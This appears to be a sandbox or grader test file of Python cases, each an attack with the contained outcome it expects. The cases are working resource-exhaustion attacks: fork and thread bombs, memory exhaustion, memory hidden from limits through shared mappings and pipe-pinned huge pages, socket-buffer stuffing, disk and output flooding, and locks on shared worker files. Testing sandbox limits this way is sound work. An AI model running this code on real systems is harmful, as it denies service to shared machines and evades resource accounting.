# Floods: of processes, threads, memory in all its hiding places, files and output.


# %% piece native
import ctypes
import mmap
import os
import socket
import tempfile
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
libc.memset.argtypes = [ctypes.c_void_p, ctypes.c_int, ctypes.c_size_t]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]


def fill(size):
    block = bytearray(size)
    for at in range(0, size, 4096):
        block[at] = 1
    return block


def hide(flags, descriptor=-1, size=2800 << 20):
    # What is shared stays in memory after it was given back from the page tables, where limits count it.
    start = libc.mmap(None, size, 3, flags, descriptor, 0)
    if start in (None, (1 << 64) - 1):
        return False
    for at in range(0, size, 16 << 20):
        libc.memset(start + at, 1, 16 << 20)
        libc.madvise(start + at, 16 << 20, 4)
    time.sleep(1)
    return True


# %% fork bomb | forks without end, each child too
# after: once
# shows: RuntimeError: bombed or The process that ran your code
import os
import signal


def attack(*_):
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    for _ in range(3000):
        try:
            os.fork()
        except OSError:
            pass
    if os.getpid() != 1:
        os._exit(0)
    raise RuntimeError("bombed")


# %% thread bomb | starts threads without end
# after: once
# shows: few threads were started
import threading
import time


def attack(*_):
    started = 0
    try:
        while started < 100_000:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
            started += 1
    except RuntimeError:
        pass
    raise RuntimeError(f"{started} threads were started" if started > 500 else "few threads were started")


# %% memory | takes all memory that it gets
# before: native
# after: once
# shows: used more than or MemoryError


def attack(*_):
    keep = []
    while True:
        keep.append(fill(64 << 20))


# %% tensors | makes tensors without end
# after: once
# shows: used more than or allocate memory
import torch


def attack(*_):
    keep = []
    while True:
        keep.append(torch.ones(1 << 24))


# %% children's memory | has a dozen other programs take memory, each below the limit
# before: native
# after: once
# shows: used more than


def attack(*_):
    hog = "x = bytearray(360 << 20)\nfor i in range(0, len(x), 4096): x[i] = 1\nimport time; time.sleep(9)"
    for _ in range(12):
        if os.fork() == 0:
            os.execv("/usr/bin/env", ["env", "python3", "-c", hog])
    time.sleep(9)


# %% hidden shared memory | fills memory that is shared, and hides it from the page tables
# before: native
# after: once
# shows: hidden: [False, False]


def attack(*_):
    zero = os.open("/dev/zero", os.O_RDWR)
    hidden = [hide(0x21), hide(0x1, zero)]
    raise RuntimeError(f"hidden: {hidden}")


# %% memory in pipes | hides huge pages in pipes, a byte of each
# before: native
# after: once
# shows: 0 pages hidden



class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def attack(*_):
    hidden, huge, number = 0, 2 << 20, {"x86_64": 278, "aarch64": 75}[os.uname().machine]
    for _ in range(100):
        end = os.pipe()[1]
        for _ in range(14):
            start = libc.mmap(None, 2 * huge, 3, 0x22, -1, 0)
            page = (start + huge - 1) // huge * huge
            libc.madvise(page, huge, 14)
            libc.memset(page, 1, huge)
            hidden += libc.syscall(number, end, ctypes.byref(Part(page, 8)), 1, 0) > 0
            libc.munmap(start, 2 * huge)
    raise RuntimeError(f"{hidden} pages hidden")


# %% memory in sockets | fills the buffers of as many sockets as it gets, in many processes
# before: native
# after: once
# shows: stuffed or used more than or It did not end within



def stuff():
    keep, data = [], bytes(65536)
    try:
        while True:
            pair = socket.socketpair()
            keep.append(pair)
            for end in pair:
                end.setblocking(False)
                try:
                    while True:
                        end.send(data)
                except BlockingIOError:
                    pass
    except OSError:
        time.sleep(9)


def attack(*_):
    for _ in range(60):
        try:
            if os.fork() == 0:
                stuff()
        except OSError:
            break
    time.sleep(2)
    raise RuntimeError("stuffed")


# %% memory behind a trickle | sends its answer byte by byte while its children take memory
# before: native
# after: once
# shows: used more than



def trickle():
    os.write(3, bytes([0, 0x10, 0, 0]))
    while True:
        os.write(3, b"x")
        time.sleep(0.1)


def attack(*_):
    threading.Thread(target=trickle, daemon=True).start()
    for _ in range(3):
        if os.fork() == 0:
            block = fill(2000 << 20)
            time.sleep(9)
    time.sleep(9)


# %% memory behind a veil | hides what it shares with others, then takes memory in a dozen children
# before: native
# after: once
# shows: used more than
def attack(*_):
    libc.prctl(4, 0, 0, 0, 0)  # not dumpable
    for _ in range(12):
        if os.fork() == 0:
            block = fill(300 << 20)
            time.sleep(9)
    time.sleep(9)


# %% files | writes as much as it can to every folder that takes it, and makes as many files
# before: native
# after: once
# shows: RuntimeError: a little


def attack(*_):
    written = made = 0
    for folder in ("/tmp", "/dev/shm", "/var/tmp", ".", "/dev", "/run"):
        try:
            for number in range(40):
                with open(f"{folder}/{number}", "wb") as file:
                    for _ in range(200):
                        written += file.write(bytes(1 << 20))
        except OSError:
            pass
        try:
            for number in range(100_000):
                os.close(os.open(f"{folder}/f{number}", os.O_CREAT))
                made += 1
        except OSError:
            pass
    raise RuntimeError("a little" if written < 300 << 20 and made < 20_000 else f"{written >> 20} MiB, {made} files")


# %% output | prints two gigabytes on both of its outputs
# after: once
# shows: RuntimeError: printed
import os


def attack(*_):
    block = b"noise\n" * 100_000
    for _ in range(1500):
        os.write(1, block)
        os.write(2, block)
    print("x" * 50_000_000)
    raise RuntimeError("printed")


# %% locks | holds locks on the files that all workers share
# after: once
# shows: 3 locks
import fcntl
import os


def attack(*_):
    held = 0
    for path in (os.__file__, "/usr/bin/env", "/grader/grader/worker/session.py"):
        fcntl.flock(open(path), fcntl.LOCK_EX)
        held += 1
    raise RuntimeError(f"{held} locks")
